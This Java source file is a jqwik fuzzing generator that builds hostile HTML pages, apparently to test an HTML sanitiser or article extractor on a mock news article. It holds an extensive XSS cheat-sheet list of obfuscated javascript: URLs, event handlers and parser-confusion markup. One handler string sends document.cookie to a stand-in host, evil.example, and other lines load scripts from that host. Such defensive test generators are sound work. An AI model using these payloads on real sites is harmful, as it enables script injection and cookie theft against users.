package org.dossier.fuzz;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Tuple;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * Generates hostile HTML pages: script, style, frames, objects, SVG and MathML, event handlers in every spelling,
 * javascript:/vbscript:/data: URLs with entity-encoded and white-space-obfuscated schemes, comments, CDATA, nested and
 * missing quotes, unclosed tags, mixed into a real-looking {@code <article>} of news paragraphs.
 *
 * <pre>{@code @Property void p(@ForAll("pages") String html) ...  Arbitrary<String> pages() { return HostileHtml.pages(); }}</pre>
 */
final class HostileHtml {
    /**
     * A fragment of hostile markup.
     *
     * @param closed whether it ends every element, comment and quote it opens (parsing it cannot swallow the text after it)
     */
    record Piece(String html, boolean closed) {}

    /** How one character of a URL scheme is written. */
    enum Spelling { PLAIN, UPPER, DECIMAL, HEX, PADDED_NO_SEMICOLON, TAB, TAB_ENTITY, NAMED_TAB, NEWLINE, NEWLINE_ENTITY, NAMED_NEWLINE, CR_ENTITY, NUL_ENTITY, NAMED_COLON }

    enum Quote { DOUBLE, SINGLE, NONE }

    enum Case { LOWER, UPPER, ALTERNATING }

    private static final List<String> SCHEMES = List.of("javascript:", "vbscript:", "data:", "JaVaScRiPt:", "livescript:");
    private static final List<String> PREFIXES = List.of("", "", "", " ", "  ", "\t", "\n", "&#x20;", "&#32;", "\u0001", "&#14;",
            "&#xFEFF;", "\u00A0", " \n\t ", "&#0;");
    private static final List<String> PAYLOADS = List.of("alert(1)", "alert(document.cookie)", "//%0aalert(1)", "void(0)",
            "text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "text/html,<script>alert(1)</script>",
            "image/svg+xml,<svg onload=alert(1)>", "msgbox(1)", "alert`1`", "eval(atob('YWxlcnQoMSk='))");
    private static final List<String> SAFE_URLS = List.of("https://example.org/plan?a=1&b=2", "http://news.example/2020/04/story.html",
            "mailto:desk@news.example", "/relative/path", "#top", "//evil.example/x.js", "https://example.org/a b",
            "https://example.org/?q=\"x\"", "HTTPS://EXAMPLE.ORG/", "ftp://files.example/x", "javascript", "x",
            "https://example.org/' onclick='alert(1)", "https://example.org/ onmouseover=alert(1)");
    private static final List<String> EVENTS = List.of("onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart",
            "ontoggle", "onbegin", "onpageshow", "onpointerenter", "onwheel", "onauxclick", "OnLoad", "ONCLICK");
    private static final List<String> HANDLERS = List.of("alert(1)", "alert`1`", "javascript:alert(1)", "&#97;lert(1)",
            "steal(document.cookie)", "x", "", "alert(\"x\")", "alert('x')", "fetch('//evil.example/'+document.cookie)");
    private static final List<String> SEPARATORS = List.of(" ", " ", " ", "  ", "\t", "\n", "/", " /", "\f", "\r\n");
    private static final List<String> EQUALS = List.of("=", "=", "=", " = ", "\t=\t", "\n=", "=\n");
    private static final List<String> URL_ATTRIBUTES = List.of("href", "src", "action", "formaction", "xlink:href", "poster",
            "background", "data", "codebase", "cite", "longdesc", "lowsrc", "dynsrc", "srcset", "HREF", "Src");
    private static final List<String> TITLES = List.of("x onclick=1", "He said \"hi\"", "it's", "<script>alert(1)</script>",
            "x\" onmouseover=\"alert(1)", "Turn online=yes", "plain title", "a' onclick='b", "</abbr><img src=x onerror=alert(1)>");

    private HostileHtml() {}

    /** A scheme a browser would run or load, spelled to slip past a naive check. */
    static Arbitrary<String> unsafeUrl() {
        Arbitrary<String> scheme = Arbitraries.of(SCHEMES).flatMap(HostileHtml::spelled);
        return Combinators.combine(Arbitraries.of(PREFIXES), scheme, Arbitraries.of(PAYLOADS)).as((p, s, x) -> p + s + x);
    }

    static Arbitrary<String> url() {
        return Arbitraries.frequencyOf(Tuple.of(4, unsafeUrl()), Tuple.of(1, Arbitraries.of(SAFE_URLS)));
    }

    /** {@code s} with each character plainly written, or (one in five) as an entity, upper case or with white space before it. */
    static Arbitrary<String> spelled(String s) {
        Arbitrary<Spelling> one = Arbitraries.frequencyOf(Tuple.of(4, Arbitraries.just(Spelling.PLAIN)), Tuple.of(1, Arbitraries.of(Spelling.class)));
        return one.list().ofSize(s.length()).map(spellings -> {
            StringBuilder sb = new StringBuilder();
            for (int i = 0; i < s.length(); i++) spell(s.charAt(i), spellings.get(i), sb);
            return sb.toString();
        });
    }

    private static void spell(char c, Spelling how, StringBuilder sb) {
        switch (how) {
            case PLAIN -> sb.append(c);
            case UPPER -> sb.append(Character.toUpperCase(c));
            case DECIMAL -> sb.append("&#").append((int) c).append(';');
            case HEX -> sb.append("&#x").append(Integer.toHexString(c)).append(';');
            case PADDED_NO_SEMICOLON -> sb.append("&#0000").append((int) c);
            case TAB -> sb.append('\t').append(c);
            case TAB_ENTITY -> sb.append("&#x09;").append(c);
            case NAMED_TAB -> sb.append("&Tab;").append(c);
            case NEWLINE -> sb.append('\n').append(c);
            case NEWLINE_ENTITY -> sb.append("&#10;").append(c);
            case NAMED_NEWLINE -> sb.append("&NewLine;").append(c);
            case CR_ENTITY -> sb.append("&#13;").append(c);
            case NUL_ENTITY -> sb.append("&#0;").append(c);
            case NAMED_COLON -> sb.append(c == ':' ? "&colon;" : String.valueOf(c));
        }
    }

    private record Attr(String text, boolean closed) {}

    /** {@code name=value} with a varied separator before it, varied spacing around '=' and any quoting. */
    private static Arbitrary<Attr> attribute(Arbitrary<String> name, Arbitrary<String> value) {
        return Combinators.combine(Arbitraries.of(SEPARATORS), name, Arbitraries.of(Case.class), Arbitraries.of(EQUALS),
                Arbitraries.of(Quote.class), value).as((sep, n, c, eq, q, v) -> {
            String quoted = switch (q) {
                case DOUBLE -> "\"" + v + "\"";
                case SINGLE -> "'" + v + "'";
                case NONE -> v;
            };
            boolean closed = switch (q) {
                case DOUBLE -> v.indexOf('"') < 0;
                case SINGLE -> v.indexOf('\'') < 0;
                // Unquoted, a '>' ends the tag and the rest of the value spills out as markup; an empty value takes
                // the next attribute's name as its value, and that attribute's quotes may then never close.
                case NONE -> !v.isBlank() && v.indexOf('"') < 0 && v.indexOf('\'') < 0 && v.indexOf('`') < 0 && v.indexOf('>') < 0;
            };
            // Right after an unquoted value, a bare "/" joins that value, and this attribute's quotes may then open a value
            // that never closes: only a separator with white space is sure to start a new attribute.
            return new Attr(sep + cased(n, c) + eq + quoted, closed && !sep.equals("/"));
        });
    }

    private static Arbitrary<Attr> handler() {
        return attribute(Arbitraries.of(EVENTS), Arbitraries.of(HANDLERS));
    }

    private static Arbitrary<Attr> urlAttribute(String... names) {
        return attribute(Arbitraries.of(names), url());
    }

    private static Arbitrary<Attr> anyUrlAttribute() {
        return attribute(Arbitraries.of(URL_ATTRIBUTES), url());
    }

    /** {@code <tag attrs>inner</tag>}: attributes drawn from {@code attrs}, optionally with an event handler too. */
    private static Arbitrary<Piece> element(String tag, Arbitrary<Attr> attrs, Arbitrary<String> inner, boolean voidTag) {
        Arbitrary<List<Attr>> more = Arbitraries.oneOf(attrs, handler()).list().ofMinSize(0).ofMaxSize(2);
        return Combinators.combine(attrs, more, inner, Arbitraries.of(true, true, true, false)).as((a, rest, in, close) -> {
            StringBuilder sb = new StringBuilder("<").append(tag).append(a.text());
            boolean closed = a.closed();
            for (Attr r : rest) {
                sb.append(r.text());
                closed &= r.closed();
            }
            sb.append('>');
            if (voidTag) return new Piece(sb.toString(), closed);
            sb.append(in);
            if (close) sb.append("</").append(tag).append('>');
            return new Piece(sb.toString(), closed && close);
        });
    }

    private static Arbitrary<String> linkText() {
        return Arbitraries.of("Read the full plan", "click", "new jobs", "the council website", "", "<b>bold</b> link");
    }

    /** Markup that names a hostile thing directly: fixed strings, from the classic XSS cheat sheets. */
    private static final List<Piece> FIXED = List.of(
            new Piece("<script>alert(1)</script>", true),
            new Piece("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", true),
            new Piece("<script/xss src=\"data:,alert(1)\"></script>", true),
            new Piece("<scr<script>ipt>alert(1)</scr</script>ipt>", false),
            new Piece("<script>", false),
            new Piece("<script type=\"application/ld+json\">{\"@type\":\"NewsArticle\",\"headline\":\"<script>alert(1)</script>\",\"author\":{\"name\":\"<img src=x onerror=alert(1)>\"}}</script>", true),
            new Piece("<script type=\"application/ld+json\">{\"@type\": [\"NewsArticle\"], \"@graph\": [[[{}]]], \"headline\": </script>", true),
            new Piece("<script>document.write('<p>injected</p>')</script>", true),
            new Piece("<style>body{background:url(\"javascript:alert(1)\")}</style>", true),
            new Piece("<style>@import 'http://evil.example/x.css';</style>", true),
            new Piece("<STYLE>p{color:red}", false),
            new Piece("<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>", true),
            new Piece("<iframe srcdoc='<img src=x onerror=alert(1)>'></iframe>", true),
            new Piece("<iframe src=\"https://evil.example/\">", false),
            new Piece("<object><param name=src value=javascript:alert(1)></object>", true),
            new Piece("<svg onload=alert(1)>", false),
            new Piece("<svg><script>alert(1)</script></svg>", true),
            new Piece("<svg><animate attributeName=href values=javascript:alert(1) /><a><text x=0 y=20>click</text></a></svg>", true),
            new Piece("<svg><use href=\"data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='alert(1)' /&gt;&lt;/svg&gt;#x\"/></svg>", true),
            new Piece("<svg><foreignObject><p onclick=alert(1)>inside svg</p></foreignObject></svg>", true),
            new Piece("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", false),
            new Piece("<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">click</maction></math>", true),
            new Piece("<template><script>alert(1)</script><img src=x onerror=alert(1)></template>", true),
            // By HTML's rules the unclosed <p> keeps the <noscript> open, so it holds what follows: not closed.
            new Piece("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>", false),
            new Piece("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></p></noscript>", true),
            new Piece("<!-- <script>alert(1)</script> -->", true),
            new Piece("<!--> <img src=x onerror=alert(1)> -->", true),
            new Piece("<!---> not a comment <b onclick=alert(1)>x</b> -->", true),
            new Piece("<!--[if IE]><script>alert(1)</script><![endif]-->", true),
            new Piece("<!-- unclosed comment <script>alert(1)</script>", false),
            new Piece("<![CDATA[<script>alert(1)</script>]]>", true),
            new Piece("<?xml version=\"1.0\"?><?php echo 1 ?>", true),
            new Piece("<!DOCTYPE x [ <!ENTITY x \"<script>\">]>", true),
            new Piece("<textarea><script>alert(1)</script></textarea>", true),
            new Piece("<title><img src=x onerror=alert(1)></title>", true),
            new Piece("<xmp><img src=x onerror=alert(1)></xmp>", true),
            new Piece("<noembed><img src=x onerror=alert(1)></noembed>", true),
            new Piece("<plaintext><script>alert(1)</script>", false),
            new Piece("<select><option>a</option><script>alert(1)</script></select>", true),
            new Piece("<select><option>unclosed", false),
            new Piece("<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>", false),
            new Piece("<applet code=x codebase=javascript:alert(1)></applet>", true),
            new Piece("<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>", true),
            new Piece("<img src=x:alert(alt) onerror=eval(src) alt=0>", true),
            new Piece("<img srcset=\"javascript:alert(1) 1x, data:image/svg+xml,x 2x\">", true),
            new Piece("<a href=\"&#xFEFF;javascript:alert(1)\">bom</a>", true),
            new Piece("<a href=\"\u2028javascript:alert(1)\">line separator</a>", true),
            new Piece("<a href=\"ｊａｖａｓｃｒｉｐｔ:alert(1)\">fullwidth</a>", true),
            // A NUL makes the file binary unless it is UTF-16: not used where the page must be accepted.
            new Piece("<a href=\"java\u0000script:alert(1)\">nul</a>", false),
            new Piece("<a href=\"javascript&colon;alert(1)\">colon</a>", true),
            new Piece("<a href=\"jav&#x0A;ascript:alert(1)\">newline</a>", true),
            new Piece("<a href=\"&#106;avascript:alert(1)\">decimal</a>", true),
            new Piece("<a href=\"java&#x09;script:alert(1)\">tab</a>", true),
            new Piece("<a href=\"  JaVaScRiPt:alert(1)\">mixed case</a>", true),
            new Piece("<a href=javascript:alert(1)>unquoted</a>", true),
            new Piece("<a href='javascript:alert(\"x\")'>single</a>", true),
            new Piece("<a title=\"x' onclick='alert(1)\" href=\"https://example.org/\">nested quotes</a>", true),
            new Piece("<a href=\"javascript:", false),
            new Piece("<a href=\"https://example.org/\" onclick=\"alert(1)\">ok link, bad handler</a>", true),
            new Piece("<details open ontoggle=alert(1)><summary>more</summary>details text</details>", true),
            new Piece("<body onload=alert(1)>", true),
            new Piece("<div hidden>hidden text</div>", true),
            new Piece("<div class=\"share-tools\" onclick=\"alert(1)\"><a href=\"javascript:share()\">Share</a></div>", true),
            new Piece("<b><i>mis-nested</b></i>", true),
            new Piece("<a href=\"https://a.example/\"><a href=\"javascript:alert(1)\">nested anchors</a></a>", true),
            new Piece("<table background=\"javascript:alert(1)\"><tr><td onmouseover=alert(1)>cell text</td></tr></table>", true),
            new Piece("<isindex action=javascript:alert(1) type=image>", true),
            new Piece("<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">", true),
            new Piece("<meta charset=\"x-imap4-modified-utf7\">", true),
            new Piece("<base href=\"https://evil.example/\">", true),
            new Piece("<link rel=import href=\"data:text/html,<script>alert(1)</script>\">", true),
            new Piece("<div style=\"width:expression(alert(1))\">expression</div>", true),
            new Piece("<p style=\"background:url(javascript:alert(1));position:fixed;top:0\">styled paragraph</p>", true),
            new Piece("<form><button formaction=javascript:alert(1)>go</button></form>", true),
            new Piece("<form action=\"javascript:alert(1)\"><input type=submit></form>", true),
            new Piece("<video poster=javascript:alert(1)><source src=x onerror=alert(1)></video>", true),
            new Piece("<audio src=x onerror=alert(1)></audio>", true),
            new Piece("<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">", true),
            new Piece("<object data=\"javascript:alert(1)\" type=\"text/html\"></object>", true),
            new Piece("<object data=\"data:text/html,x\">unclosed object", false),
            new Piece("<div aria-hidden=\"true\">screen-reader text</div>", true),
            new Piece("<span style=\"color:red\" onclick=alert(1)>span</span>", true),
            new Piece("<q cite=\"javascript:alert(1)\">a quote</q>", true),
            new Piece("<blockquote cite=\"javascript:alert(1)\" onclick=alert(1)>a blockquote</blockquote>", true),
            new Piece("&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;img src=x onerror=alert(1)&amp;gt;", true),
            new Piece("<<script>script>alert(1)<</script>/script>", true));

    /** One piece of hostile markup: a fixed one, or an element built from varied parts. */
    static Arbitrary<Piece> piece() {
        Arbitrary<Piece> fixed = Arbitraries.of(FIXED);
        Arbitrary<String> none = Arbitraries.just("");
        List<Arbitrary<Piece>> built = new ArrayList<>(List.of(
                element("a", urlAttribute("href", "HREF", "xlink:href"), linkText(), false),
                element("img", urlAttribute("src", "srcset", "lowsrc", "dynsrc"), none, true),
                element("iframe", urlAttribute("src", "srcdoc"), none, false),
                element("object", urlAttribute("data", "codebase"), none, false),
                element("embed", urlAttribute("src"), none, true),
                element("form", urlAttribute("action"), Arbitraries.just("<button formaction=javascript:alert(1)>go</button>"), false),
                element("base", urlAttribute("href"), none, true),
                element("link", urlAttribute("href"), none, true),
                element("area", urlAttribute("href"), none, true),
                element("b", handler(), Arbitraries.just("bold text"), false),
                element("span", anyUrlAttribute(), Arbitraries.just("span text"), false),
                element("abbr", attribute(Arbitraries.just("title"), Arbitraries.of(TITLES)), Arbitraries.just("abbr"), false),
                element("q", urlAttribute("cite"), Arbitraries.just("quoted"), false),
                element("p", attribute(Arbitraries.just("style"), Arbitraries.of("background:url(javascript:alert(1))",
                        "behavior:url(x.htc)", "-moz-binding:url(x.xml#xss)", "color:red")), Prose.paragraph(), false),
                element("svg", handler(), Arbitraries.just("<a xlink:href=\"javascript:alert(1)\"><text>svg link</text></a>"), false),
                element("math", urlAttribute("href", "xlink:href"), Arbitraries.just("math"), false),
                Combinators.combine(urlAttribute("content"), Arbitraries.just(0)).as((a, z) ->
                        new Piece("<meta http-equiv=\"refresh\"" + a.text() + ">", a.closed()))));
        return Combinators.combine(Arbitraries.frequencyOf(Tuple.of(1, fixed), Tuple.of(2, Arbitraries.oneOf(built))),
                Arbitraries.of(Case.class)).as((p, c) -> new Piece(casedTags(p.html(), c), p.closed()));
    }

    /** A whole hostile page: head, body with page furniture, and an article of paragraphs with hostile pieces mixed in. */
    static Arbitrary<String> pages() {
        Arbitrary<String> item = Arbitraries.frequencyOf(
                Tuple.of(3, Prose.paragraph().map(p -> "<p>" + p + "</p>")),
                Tuple.of(2, piece().map(Piece::html)),
                Tuple.of(2, Combinators.combine(Prose.paragraph(), piece(), Prose.paragraph())
                        .as((a, x, b) -> "<p>" + a + " " + x.html() + " " + b + "</p>")));
        Arbitrary<List<String>> head = piece().map(Piece::html).list().ofMaxSize(3);
        Arbitrary<List<String>> around = piece().map(Piece::html).list().ofMaxSize(3);
        return Combinators.combine(head, around, item.list().ofMinSize(1).ofMaxSize(14), around, mutation())
                .as((h, before, article, after, mutate) -> mutate.apply(
                        "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>Council votes on harbour plan | Harbour Times</title>"
                                + String.join("", h) + "</head><body>" + String.join("\n", before)
                                + "<article><h1>Council votes on new harbour plan</h1>\n" + String.join("\n", article)
                                + "</article>" + String.join("", after) + "</body></html>"));
    }

    /** An edit that breaks a page's structure: cut it short, drop a '>' or a quote, or leave it alone. */
    record Mutation(int kind, double at) {
        String apply(String page) {
            int i = (int) (at * page.length());
            return switch (kind) {
                case 1 -> page.substring(0, i);
                case 2 -> drop(page, i, '>');
                case 3 -> drop(page, i, '"');
                case 4 -> page.substring(0, i) + "<" + page.substring(i);
                default -> page;
            };
        }

        private static String drop(String page, int from, char c) {
            int j = page.indexOf(c, from);
            return j < 0 ? page : page.substring(0, j) + page.substring(j + 1);
        }
    }

    static Arbitrary<Mutation> mutation() {
        return Combinators.combine(Arbitraries.frequencyOf(Tuple.of(6, Arbitraries.just(0)), Tuple.of(1, Arbitraries.integers().between(1, 4))),
                Arbitraries.doubles().between(0, 1)).as(Mutation::new);
    }

    /**
     * A page whose article holds {@code <p>sentence</p>} (the paragraph itself has no hostile attribute, though hostile
     * inline markup may follow the sentence inside it), with only {@linkplain Piece#closed closed} hostile pieces
     * around: none of them can, by HTML's parsing rules, swallow the sentence.
     */
    static final String SENTENCE = "@@SENTENCE@@";

    /** A page around {@link #SENTENCE}, a placeholder for the sentence (so that jqwik shrinks the two independently). */
    static Arbitrary<String> pageAroundASentence() {
        Arbitrary<String> closed = piece().filter(Piece::closed).map(Piece::html);
        Arbitrary<String> item = Arbitraries.frequencyOf(Tuple.of(3, Prose.paragraph().map(p -> "<p>" + p + "</p>")), Tuple.of(2, closed));
        Arbitrary<String> open = Arbitraries.of("<p>", "<p class=\"lead\">", "<P dir=ltr>", "<p id=\"para-7\">");
        Arbitrary<String> inside = Arbitraries.frequencyOf(Tuple.of(2, Arbitraries.just("")), Tuple.of(1, closed.map(s -> " " + s)));
        return Combinators.combine(closed.list().ofMaxSize(3), item.list().ofMaxSize(10), Arbitraries.integers().between(0, 12),
                open, inside, closed.list().ofMaxSize(3)).as((before, items, at, p, in, after) -> {
            // Two paragraphs of prose always, so that the article has enough words to be one.
            List<String> article = new ArrayList<>(items);
            article.add(0, "<p>" + Prose.SENTENCES.get(0) + "</p>");
            article.add("<p>" + Prose.SENTENCES.get(1) + "</p>");
            article.add(Math.min(at, article.size()), p + SENTENCE + in + "</p>");
            return "<!DOCTYPE html><html><head><title>Harbour plan</title></head><body>" + String.join("\n", before)
                    + "<article><h1>Council votes on new harbour plan</h1>\n" + String.join("\n", article) + "</article>"
                    + String.join("", after) + "</body></html>";
        });
    }

    private static final Pattern TAG_NAME = Pattern.compile("<(/?)([A-Za-z][A-Za-z0-9:]*)");

    static String casedTags(String html, Case c) {
        if (c == Case.LOWER) return html;
        Matcher m = TAG_NAME.matcher(html);
        StringBuilder sb = new StringBuilder();
        while (m.find()) m.appendReplacement(sb, Matcher.quoteReplacement("<" + m.group(1) + cased(m.group(2), c)));
        return m.appendTail(sb).toString();
    }

    static String cased(String name, Case c) {
        return switch (c) {
            case LOWER -> name;
            case UPPER -> name.toUpperCase(Locale.ROOT);
            case ALTERNATING -> {
                StringBuilder sb = new StringBuilder(name.length());
                for (int i = 0; i < name.length(); i++) {
                    char ch = name.charAt(i);
                    sb.append(i % 2 == 0 ? Character.toUpperCase(ch) : Character.toLowerCase(ch));
                }
                yield sb.toString();
            }
        };
    }
}
